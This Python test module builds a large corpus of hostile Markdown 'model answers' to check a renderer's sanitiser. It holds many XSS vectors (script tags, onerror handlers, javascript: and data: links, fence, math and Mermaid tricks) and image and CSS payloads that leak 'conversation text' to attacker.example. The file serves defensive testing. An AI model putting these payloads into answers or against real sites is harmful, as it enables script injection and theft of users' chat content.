"""A corpus of hostile model answers: public XSS lists plus Markdown-specific tricks.

Every payload sets its OWN flag when it runs: ``window.__xss_<id> = 1`` (``top.``/``parent.``
from inside frames), so a browser test that finds a flag knows exactly which payload ran.
Exfiltration payloads point at ``attacker.example`` (any request to it is a leak).

- ``CORPUS``: every :class:`Payload` (ids are unique; ``flag`` is the window property).
- ``answers()``: the corpus packed into model answers. Payloads that are plain inline or
  HTML-block tricks are batched (several per answer, separated by thematic breaks);
  Markdown-structure payloads (fences, tab lines, lists, tables, math, link references, huge
  or deep input) and container-swallowing ones (``<textarea>``, ``<!--``...) get an answer of
  their own, so one payload cannot hide another.

Run ``python tests/hostile_corpus.py`` for the counts per kind.
"""
from __future__ import annotations

import urllib.parse
from dataclasses import dataclass

__all__ = ["CORPUS", "EXFIL_HOST", "FLAG_PREFIX", "Answer", "Payload", "answers", "by_id", "counts"]

FLAG_PREFIX = "__xss_"
EXFIL_HOST = "attacker.example"


@dataclass(frozen=True)
class Payload:
    """One hostile answer fragment; ``standalone``: needs an answer of its own."""

    id: str
    kind: str
    text: str
    standalone: bool = False

    @property
    def flag(self) -> str:
        return FLAG_PREFIX + self.id


@dataclass(frozen=True)
class Answer:
    """One model answer: the text and the payload ids it carries."""

    id: str
    text: str
    payload_ids: tuple[str, ...]
    streamable: bool = True  # False: too big to stream one token at a time in a test


def js(pid: str, scope: str = "window") -> str:
    """The statement that sets payload ``pid``'s flag (no spaces, no quotes)."""
    return f"{scope}.{FLAG_PREFIX}{pid}=1"


# --------------------------------------------------------------------- raw HTML vectors
# "{J}": the JS statement (window scope); "{T}": the same for frames (top scope).
HTML_VECTORS: dict[str, str] = {
    "script": "<script>{J}</script>",
    "script_upper": "<SCRIPT>{J}</SCRIPT>",
    "script_src_data": "<script src=data:,{J}></script>",
    "script_split": "<scr<script>ipt>{J}</scr</script>ipt>",
    "img_onerror": "<img src=x onerror={J}>",
    "img_onerror_q": '<img src="x" onerror="{J}">',
    "img_mixed_case": "<IMG SRC=x OnErRoR={J}>",
    "img_slash": "<img/src=x/onerror={J}>",
    "img_unclosed": "<img src=x onerror={J} ",
    "img_backtick": "<img src=`x` onerror={J}>",
    "img_newline_attr": "<img src=x\nonerror={J}>",
    "img_entity_handler": '<img src=x onerror="&#119;indow.{F}=1">',
    "svg_onload": "<svg onload={J}>",
    "svg_script": "<svg><script>{J}</script></svg>",
    "svg_animate": "<svg><animate onbegin={J} attributeName=x dur=1s></animate></svg>",
    "svg_set": "<svg><set onbegin={J} attributeName=x to=1></set></svg>",
    "svg_a_xlink": '<svg><a xlink:href="javascript:{J}"><text x=20 y=20>svg link</text></a></svg>',
    "svg_foreign": "<svg><foreignObject><img src=x onerror={J}></foreignObject></svg>",
    "svg_style_img": "<svg><style><img src=x onerror={J}></style></svg>",
    "math_img": "<math><mtext><table><mglyph><style><img src=x onerror={J}></style></mglyph></table></mtext></math>",
    "math_href": '<math><mi xlink:href="javascript:{J}" href="javascript:{J}">math link</mi></math>',
    "math_maction": '<math><maction actiontype=statusline xlink:href="javascript:{J}">m</maction></math>',
    "body_onload": "<body onload={J}>",
    "body_onpageshow": "<body onpageshow={J}>",
    "iframe_onload": "<iframe onload={J}></iframe>",
    "iframe_js_src": '<iframe src="javascript:{T}"></iframe>',
    "iframe_srcdoc": '<iframe srcdoc="<script>{T}</script>"></iframe>',
    "iframe_srcdoc_ent": '<iframe srcdoc="&lt;img src=x onerror={T}&gt;"></iframe>',
    "iframe_data": '<iframe src="data:text/html,<script>{J}</script>"></iframe>',
    "video_onerror": "<video src=x onerror={J}></video>",
    "video_source": "<video><source onerror={J}></video>",
    "video_poster": '<video poster="javascript:{J}"></video>',
    "audio_onerror": "<audio src=x onerror={J}></audio>",
    "details_toggle": "<details open ontoggle={J}><summary>d</summary>x</details>",
    "marquee_start": "<marquee onstart={J}>m</marquee>",
    "input_autofocus": "<input autofocus onfocus={J}>",
    "select_autofocus": "<select autofocus onfocus={J}></select>",
    "div_onmouseover": '<div onmouseover={J} style="position:fixed;inset:0">hover</div>',
    "object_js": '<object data="javascript:{T}"></object>',
    "object_data_html": '<object data="data:text/html,<script>{J}</script>"></object>',
    "embed_js": '<embed src="javascript:{T}">',
    "embed_data_svg": '<embed src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{J}%22/>">',
    "form_action": '<form action="javascript:{J}"><button>form button</button></form>',
    "button_formaction": '<form><button formaction="javascript:{J}">formaction</button></form>',
    "input_formaction": '<form><input type=submit formaction="javascript:{J}" value=submit></form>',
    "a_js": '<a href="javascript:{J}">raw anchor</a>',
    "a_js_entity": '<a href="&#106;avascript:{J}">entity anchor</a>',
    "a_js_tab": '<a href="jav&#x09;ascript:{J}">tab anchor</a>',
    "a_vbscript": '<a href="vbscript:{J}">vb anchor</a>',
    "a_data": '<a href="data:text/html,<script>{J}</script>">data anchor</a>',
    "area_js": '<map name=m><area shape=rect coords=0,0,50,50 href="javascript:{J}"></map><img src=x usemap=#m>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=javascript:{J}">',
    "meta_refresh_data": '<meta http-equiv="refresh" content="0;url=data:text/html,<script>{J}</script>">',
    "base_href": '<base href="javascript:{J}//"><a href="relative">base link</a>',
    "link_import": '<link rel=import href="data:text/html,<script>{J}</script>">',
    "style_import": "<style>@import 'javascript:{J}';</style>",
    "style_url": '<div style="background:url(javascript:{J})">style url</div>',
    "style_expression": '<div style="width:expression({J})">expression</div>',
    "style_tag_img": "<style></style><img src=x onerror={J}>",
    "template_img": "<template><img src=x onerror={J}></template><img src=x onerror={J}>",
    "noscript_title": '<noscript><p title="</noscript><img src=x onerror={J}>"></noscript>',
    "xmp_img": "<xmp><p title=\"</xmp><img src=x onerror={J}>\"></xmp>",
    "comment_break": "<!--><img src=x onerror={J}>-->",
    "cdata_svg": "<svg><![CDATA[><img src=x onerror={J}>]]></svg>",
    "isindex": '<isindex type=image src=x onerror={J}>',
    "keygen": "<keygen autofocus onfocus={J}>",
    "table_background": '<table background="javascript:{J}"><tr><td>t</td></tr></table>',
    "picture_srcset": "<picture><source srcset=x onerror={J}><img src=x onerror={J}></picture>",
    "portal": "<portal src=x onload={J}></portal>",
    "script_json_break": '<script type="application/json">"</script><script>{J}</script>',
}

# Vectors that swallow what follows (or are swallowed): an answer of their own.
SWALLOWING = {"comment_break", "xmp_img", "noscript_title", "template_img", "base_href", "cdata_svg",
              "body_onload", "body_onpageshow", "meta_refresh", "meta_refresh_data", "div_onmouseover"}

# Where in the Markdown the HTML sits.
CONTEXTS: dict[str, str] = {
    "block": "{H}",
    "inline": "Some text {H} more text.",
    "list": "- item\n- {H}\n- end",
    "quote": "> quoted {H}",
    "heading": "## Heading {H}",
    "emph": "*emphasis {H}* and __strong {H}__",
    "linktext": "[link text {H}](https://example.com/)",
    "table": "| a | b |\n|---|---|\n| {H} | x |",
}
# The vectors tried in every context (the rest: block and inline only).
EVERY_CONTEXT = ("script", "img_onerror", "svg_onload", "iframe_srcdoc", "details_toggle",
                 "a_js", "math_img", "input_autofocus")


# ----------------------------------------------------------------------- link vectors
# "{J}": the statement. Schemes a link destination can be disguised with.
SCHEMES: dict[str, str] = {
    "js": "javascript:{J}",
    "js_case": "JaVaScRiPt:{J}",
    "js_colon_ent": "javascript&colon;{J}",
    "js_dec_ent": "&#106;avascript:{J}",
    "js_hex_ent": "&#x6A;avascript&#x3A;{J}",
    "js_tab": "java\tscript:{J}",
    "js_nl": "java&#10;script:{J}",
    "js_nbsp": "\u00a0javascript:{J}",
    "js_bom": "\ufeffjavascript:{J}",
    "js_ls": "\u2028javascript:{J}",
    "js_ctrl": "\x01javascript:{J}",
    "js_pct": "javascript%3A{J}",
    "js_slashes": "javascript://%0a{J}",
    "vbscript": "vbscript:{J}",
    "data_html": "data:text/html,<script>{J}</script>",
    "data_b64": "data:text/html;base64,{B64}",
}
LINK_FORMS: dict[str, str] = {
    "inline": "[click]({U})",
    "angle": "[click](<{U}>)",
    "title": '[click]({U} "a \\"title\\" \' with quotes")',
    "autolink": "<{U}>",
    "image": "![img]({U})",
    "ref": "[click][r1]\n\n[r1]: {U}",
    "ref_title": "[click][r2]\n\n[r2]: <{U}> 'title'",
    "second": "[ok](https://example.com/)[click]({U})",
    "img_in_link": "[![img](https://example.com/x.png)]({U})",
    "raw_a": '<a href="{U}">raw</a>',
}
REF_FORMS = {"ref", "ref_title"}


def _b64(statement: str) -> str:
    import base64

    return base64.b64encode(f"<script>{statement}</script>".encode()).decode()


def _html_payloads() -> list[Payload]:
    out = []
    for vid, template in HTML_VECTORS.items():
        contexts = CONTEXTS if vid in EVERY_CONTEXT else {"block": CONTEXTS["block"], "inline": CONTEXTS["inline"]}
        if vid in SWALLOWING:
            contexts = {"block": CONTEXTS["block"]}
        for cid, ctx in contexts.items():
            pid = f"h_{vid}_{cid}"
            html = template.replace("{J}", js(pid)).replace("{T}", js(pid, "top")).replace("{F}", FLAG_PREFIX + pid)
            text = ctx.replace("{H}", html)
            structural = cid in ("table", "list", "quote")  # keep block structure unambiguous
            out.append(Payload(pid, f"html:{vid}", text, standalone=vid in SWALLOWING or structural))
    return out


def _link_payloads() -> list[Payload]:
    out = []
    for sid, scheme in SCHEMES.items():
        for fid, form in LINK_FORMS.items():
            pid = f"l_{sid}_{fid}"
            url = scheme.replace("{J}", js(pid)).replace("{B64}", _b64(js(pid, "top")))
            if fid == "autolink" and ("\t" in url or "<" in url):
                continue  # not an autolink at all
            out.append(Payload(pid, f"link:{sid}", form.replace("{U}", url), standalone=fid in REF_FORMS))
        # a run of two hostile links: the second must be checked too
        pid = f"l_{sid}_pair"
        u1 = scheme.replace("{J}", js(pid)).replace("{B64}", _b64(js(pid, "top")))
        out.append(Payload(pid, f"link:{sid}", f"[a]({u1})[b]({u1})"))
    return out


def _fence_payloads() -> list[Payload]:
    """Markdown structure: fences, info strings, tab lines, odd HTML after fences."""
    p: list[Payload] = []

    def add(pid: str, text: str) -> None:
        p.append(Payload(pid, "markdown", text.replace("{J}", js(pid)), standalone=True))

    img = "<img src=x onerror={J}>"
    add("m_fence_bt_tilde", f"```\ncode\n```~~~\n{img}\n```")
    add("m_fence_tilde_bt", f"~~~\ncode\n~~~`\n{img}\n~~~")
    add("m_fence_mixed_close", f"````\ncode\n```~\n{img}\n````")
    add("m_fence_short_close", f"````\ncode\n```\n{img}\n````")
    add("m_fence_indented_close", f"```\ncode\n    ```\n{img}\n```")
    add("m_fence_unclosed", f"```\ncode without end\n\n{img}")
    add("m_fence_unclosed_tilde", f"~~~python\nx = 1\n\n{img}")
    add("m_fence_html_after", f"```\n```\n{img}")
    add("m_fence_in_list", f"- item\n  ```\n  code\n```\n{img}\n  ```")
    add("m_fence_in_quote", f"> ```\n> code\n```\n{img}")
    add("m_fence_bt_in_info", f"``` a`b\n{img}\n```")
    add("m_info_attr", '```"><img src=x onerror={J}>\ncode\n```')
    add("m_info_attr2", "```python\" onmouseover=\"{J}\" x=\"\nprint(1)\n```")
    add("m_info_class", "```x\"><svg onload={J}>\ncode\n```")
    add("m_info_tilde", "~~~'><img src=x onerror={J}>\ncode\n~~~")
    add("m_info_space", "``` python <img src=x onerror={J}>\ncode\n```")
    add("m_tab_line_indent", f"para\n\t\n    {img}\n\n{img}")
    add("m_tab_line_code", f"text\n\t\n\tcode {img}\n")
    add("m_tab_only_then_html", f"\t\n{img}")
    add("m_spaces_line", f"para\n   \n    indented {img}")
    add("m_indented_html", f"    {img}\n\n{img}")
    add("m_html_block_start", f"<div>\n\n{img}\n\n</div>")
    add("m_html_comment_unclosed", f"<!--\n{img}")
    add("m_pre_html", f"<pre>\n{img}\n</pre>")
    add("m_textarea", f"<textarea>\n</textarea>{img}")
    add("m_setext", f"{img}\n===")
    add("m_hr_html", f"---\n{img}\n---")
    add("m_codespan_unclosed", f"`code {img}")
    add("m_codespan_double", f"`` ` `` {img} ``")
    add("m_escape_lt", f"\\<img src=x onerror={{J}}>  and  &lt;img src=x onerror={{J}}&gt;  and {img}")
    add("m_entity_tag", "&#60;img src=x onerror={J}&#62;")
    add("m_html_in_table", f"| h |\n|---|\n| {img} |\n| <script>{{J}}</script> |")
    add("m_table_pipe_code", f"| `a|b` | {img} |\n|---|---|\n| x | y |")
    add("m_footnote", f"text[^1]\n\n[^1]: {img}")
    add("m_deflist_html", f"Term\n: {img}")
    add("m_task_list", f"- [ ] {img}\n- [x] done")
    add("m_heading_id", f"## Title {{#x onmouseover={{J}}}}\n\n{img}")
    add("m_link_title_quotes", '[x](https://example.com/ "t\\" onmouseover=\\"{J}")')
    add("m_link_title_single", "[x](https://example.com/ 't\\' onmouseover=\\'{J}')")
    add("m_link_title_paren", '[x](https://example.com/ (t" onmouseover="{J}))')
    add("m_img_alt_quotes", '![a" onerror="{J}](x)')
    add("m_img_title_quotes", '![a](x "b\\" onerror=\\"{J}")')
    add("m_link_nested", "[[a](javascript:{J})](https://example.com/)")
    add("m_link_brackets", "[a](javascript:{J} \"t\")[b](https://example.com/)")
    add("m_link_paren_in_url", "[a](javascript:(function(){{J}})())")
    add("m_link_ref_defs", "[a]\n[b]\n\n[a]: javascript:{J}\n[b]: https://example.com/")
    add("m_link_ref_case", "[A]\n\n[a]: JAVASCRIPT:{J}")
    add("m_link_ref_indented", "[x]\n\n   [x]: javascript:{J}")
    add("m_autolink_space", "< javascript:{J}>")
    add("m_autolink_bare", "see javascript:{J} and www.javascript:{J}")
    add("m_autolink_backtick", "https://x/`<img src=x onerror={J}>`")
    add("m_emph_html", "*<img src=x onerror={J}>*_<svg onload={J}>_")
    add("m_strike_html", "~~<img src=x onerror={J}>~~")
    add("m_nested_brackets", "[" * 200 + "<img src=x onerror={J}>" + "]" * 200)
    add("m_nested_emph", "*" * 300 + "<img src=x onerror={J}>" + "*" * 300)
    add("m_quotes_deep", ">" * 300 + " <img src=x onerror={J}>")
    add("m_html_entity_js", "<a href=\"javascript&#58;{J}\">e</a>")
    add("m_cr_line", "line\r<img src=x onerror={J}>\r\n")
    add("m_nul", "a\x00<img src=x onerror={J}>")
    return p


def _math_payloads() -> list[Payload]:
    p = []
    for pid, text in (
        ("x_inline_img", "$<img src=x onerror={J}>$"),
        ("x_display_img", "$$\n<img src=x onerror={J}>\n$$"),
        ("x_inline_script", "$x<script>{J}</script>$"),
        ("x_text_cmd", "$\\text{<img src=x onerror={J}>}$"),
        ("x_href", "$\\href{javascript:{J}}{click}$"),
        ("x_href_display", "$$\\href{javascript:{J}}{click math}$$"),
        ("x_url", "$\\url{javascript:{J}}$"),
        ("x_htmlclass", "$\\class{x\" onmouseover=\"{J}}{y}$"),
        ("x_htmldata", "$\\data{onerror=\"{J}\"}{x}$"),
        ("x_unclosed", "$<img src=x onerror={J}>"),
        ("x_dollar_code", "`$`<img src=x onerror={J}>`$`"),
        ("x_bracket", "\\(<img src=x onerror={J}>\\)"),
        ("x_env", "\\begin{align}<img src=x onerror={J}>\\end{align}"),
    ):
        p.append(Payload(pid, "math", text.replace("{J}", js(pid)), standalone=True))
    return p


def _mermaid_payloads() -> list[Payload]:
    p = []
    for pid, body in (
        ("g_click_js", "graph TD\n  A[click me] --> B\n  click A \"javascript:{J}\""),
        ("g_click_cb", "graph TD\n  A --> B\n  click A call eval(\"{J}\")"),
        ("g_click_href", "graph LR\n  A-->B\n  click B href \"javascript:{J}\" \"tip\""),
        ("g_html_label", "%%{init: {\"securityLevel\": \"loose\", \"flowchart\": {\"htmlLabels\": true}}}%%\n"
                         "graph TD\n  A[\"<img src=x onerror={J}>\"] --> B"),
        ("g_init_loose", "%%{init: {\"securityLevel\":\"loose\"}}%%\ngraph TD\n  A-->B\n  click A callback \"{J}\""),
        ("g_sequence", "sequenceDiagram\n  A->>B: <img src=x onerror={J}>"),
        ("g_note_script", "graph TD\n  A[\"<script>{J}</script>\"]"),
        ("g_link_js", "graph TD\n  A --> B\n  click A \"javascript:{J}\" _self"),
    ):
        text = "```mermaid\n" + body.replace("{J}", js(pid)) + "\n```"
        p.append(Payload(pid, "mermaid", text, standalone=True))
    return p


def _exfil_payloads() -> list[Payload]:
    secret = urllib.parse.quote("conversation text")
    p = []
    for pid, text in (
        ("e_image", f"![x](https://{EXFIL_HOST}/img.png?d={secret})"),
        ("e_image_http", f"![x](http://{EXFIL_HOST}/img.png?d={secret})"),
        ("e_image_ref", f"![x][pix]\n\n[pix]: https://{EXFIL_HOST}/ref.png?d={secret}"),
        ("e_image_proto_rel", f"![x](//{EXFIL_HOST}/rel.png?d={secret})"),
        ("e_raw_img", f'<img src="https://{EXFIL_HOST}/raw.png?d={secret}">'),
        ("e_srcset", f'<img srcset="https://{EXFIL_HOST}/srcset.png?d={secret} 1x">'),
        ("e_css", f'<div style="background:url(https://{EXFIL_HOST}/css.png?d={secret})">bg</div>'),
        ("e_link_prefetch", f'<link rel=prefetch href="https://{EXFIL_HOST}/prefetch?d={secret}">'),
        ("e_video_poster", f'<video poster="https://{EXFIL_HOST}/poster.png?d={secret}"></video>'),
        ("e_img_in_link", f"[![x](https://{EXFIL_HOST}/inlink.png?d={secret})](https://example.com/)"),
        ("e_math_img", f"$\\includegraphics{{https://{EXFIL_HOST}/tex.png}}$"),
    ):
        p.append(Payload(pid, "exfil", text, standalone=pid in ("e_image_ref",)))
    return p


def _huge_payloads() -> list[Payload]:
    img = "<img src=x onerror={J}>"
    p = []
    for pid, text in (
        ("z_huge_line", "H" * 300_000 + img),
        ("z_deep_list", "\n".join("  " * i + f"- level{i}" for i in range(300)) + " " + img),
        ("z_deep_olist", "\n".join("   " * i + f"1. level{i}" for i in range(300)) + " " + img),
        ("z_deep_quote_list", "\n".join("> " * (i % 50) + "- x" for i in range(300)) + "\n\n" + img),
        ("z_many_fences", "```\n" * 2000 + img),
    ):
        p.append(Payload(pid, "huge", text.replace("{J}", js(pid)), standalone=True))
    return p


def _build() -> list[Payload]:
    corpus = (_html_payloads() + _link_payloads() + _fence_payloads() + _math_payloads()
              + _mermaid_payloads() + _exfil_payloads() + _huge_payloads())
    ids = [x.id for x in corpus]
    dupes = {i for i in ids if ids.count(i) > 1}
    if dupes:
        raise AssertionError(f"duplicate payload ids: {sorted(dupes)}")
    for x in corpus:
        if x.kind != "exfil" and "data_b64" not in x.id and x.flag not in x.text:
            raise AssertionError(f"{x.id}: its flag {x.flag} is not in its text")
    return corpus


CORPUS: list[Payload] = _build()
HUGE_IDS = frozenset(x.id for x in CORPUS if x.kind == "huge")


def by_id() -> dict[str, Payload]:
    return {x.id: x for x in CORPUS}


def answers(*, batch: int = 10, include_huge: bool = True) -> list[Answer]:
    """The corpus packed into answers (batched where payloads cannot interact)."""
    out: list[Answer] = []
    pending: list[Payload] = []
    sep = "\n\n***\n\n"

    def flush() -> None:
        if pending:
            text = f"Batch answer {len(out)}." + sep + sep.join(x.text for x in pending) + "\n\nEnd of answer."
            out.append(Answer(f"a{len(out):03d}", text, tuple(x.id for x in pending)))
            pending.clear()

    for x in CORPUS:
        if x.kind == "huge" and not include_huge:
            continue
        if x.standalone:
            out.append(Answer(f"a{len(out):03d}", f"Answer for {x.id}:\n\n{x.text}\n\nEnd of answer.",
                              (x.id,), streamable=x.kind != "huge"))
        else:
            pending.append(x)
            if len(pending) >= batch:
                flush()
    flush()
    return out


def counts() -> dict[str, int]:
    """Payloads per kind (``html``, ``link``, ``markdown``, ...), plus totals."""
    out: dict[str, int] = {}
    for x in CORPUS:
        k = x.kind.split(":")[0]
        out[k] = out.get(k, 0) + 1
    out["total"] = len(CORPUS)
    out["answers"] = len(answers())
    return out


if __name__ == "__main__":
    print(counts())
